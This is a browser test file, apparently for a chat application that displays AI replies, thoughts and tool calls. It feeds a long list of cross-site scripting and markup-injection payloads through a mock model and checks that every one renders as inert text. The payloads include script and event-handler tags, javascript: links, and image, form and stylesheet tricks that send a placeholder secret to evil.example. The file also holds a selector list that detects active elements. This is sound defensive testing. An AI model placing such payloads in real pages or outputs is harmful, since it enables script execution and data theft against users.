import { expect } from 'chai';
import type { Page } from 'playwright-core';
import { BrowserWorld } from '../support/browser-world.js';
import { until } from '../support/until.js';

/** Ways in that have worked elsewhere: raw markup, markdown, links, overlays, things that fetch. */
const samples = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/?q=SECRET">',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java&#x0A;script:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/"><input name=q value=SECRET><button>go</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus><option>x</select>',
  '<textarea onfocus=alert(1) autofocus></textarea>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=https://evil.example/a.mp3 autoplay></audio>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div style="position:fixed;top:0;left:0;right:0;bottom:0;z-index:99999">overlay</div>',
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p title="`<img src=x onerror=alert(1)>`">',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '<a href="https://evil.example/" onclick="alert(1)">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<http://evil.example/"onmouseover="alert(1)>',
  '<javascript:alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=`javascript:alert(1)`>',
  '<isindex action=javascript:alert(1) type=submit>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<x contenteditable onblur=alert(1)>lose focus</x>',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '- [ ] <img src=x onerror=alert(1)>',
  '> <script>alert(1)</script>',
  '# <svg/onload=alert(1)>',
  '\u202Egnp.exe\u202C [\u200Bhttps://bank.example](https://evil.example/)',
  '[a](https://evil.example/ "title\\" onmouseover=alert(1)")',
];

describe('W3 hostile text in a real browser', function () {
  this.timeout(180_000);
  let world: BrowserWorld;
  let page: Page;
  const perReply = 8;
  const said = Array.from({ length: Math.ceil(samples.length / perReply) }, (_, index) =>
    samples.slice(index * perReply, (index + 1) * perReply).map((sample) => ({ say: `${sample}\n\n` })),
  );

  before(async () => {
    const asThought = samples.slice(0, 20).map((think) => ({ think }));
    const asTool = [
      { call: '<img src=x onerror=alert(1)>', args: { '<b>x</b>': samples[1] } },
      { call: 'read_file', args: { file_path: samples[1] } },
    ];
    const replies = [...said, [...asThought, { say: 'thought' }], asTool, [{ say: 'tools are over' }]];
    world = await BrowserWorld.open({ hostile: { replies } });
    page = await world.signIn();
  });
  after(() => world.close());

  it('does nothing but show, as text of the model, of people, as thoughts, as tools, as names', async () => {
    const session = await world.session('script-hostile', '<img src=x onerror=alert(1)>');
    await page.goto(`${world.server.url}/sessions/${session.session_id}`);
    await page.getByTestId('composer-input').waitFor();
    const before = await page.getByTestId('message').count();
    for (let index = 0; index < said.length + 2; index += 1) {
      await page.getByTestId('composer-input').fill(samples[index] ?? 'go on');
      await page.getByTestId('composer-input').press('Enter');
      await until('the answer', async () => (await page.getByTestId('message').count()) >= before + 2 * (index + 1));
    }
    await page.getByText('tools are over').waitFor();
    for (const thought of await page.getByTestId('thought').all()) await thought.getByRole('button').first().click();
    expect(world.incidents).to.deep.equal([]);
  });

  it('left no element that could act, fetch or cover the controls', async () => {
    const found = await page.getByTestId('chat-log').evaluate((log) => {
      const acting =
        'script,iframe,object,embed,form,link,meta,base,style,video,audio,template,marquee,math,[onerror],[onload],[onclick],[onfocus]';
      const inTexts = [...log.querySelectorAll('[data-test="message-text"]')];
      const elements = inTexts.flatMap((text) =>
        [...text.querySelectorAll(`${acting},img,svg,[style]`)].map((element) => element.outerHTML.slice(0, 100)),
      );
      const links = inTexts
        .flatMap((text) => [...text.querySelectorAll('a')])
        .filter((link) => !/^https?:\/\//.test(link.href) || !/noopener/.test(link.rel));
      return [...elements, ...links.map((link) => link.outerHTML)];
    });
    expect(found).to.deep.equal([]);
    await page.getByTestId('composer-input').click({ trial: true, timeout: 5000 });
  });

  it('shows a hostile name on the dashboard as a name', async () => {
    await page.goto(`${world.server.url}/`);
    await page.getByTestId('session-card').getByText('<img src=x onerror=alert(1)>').first().waitFor();
    expect(world.incidents).to.deep.equal([]);
  });
});
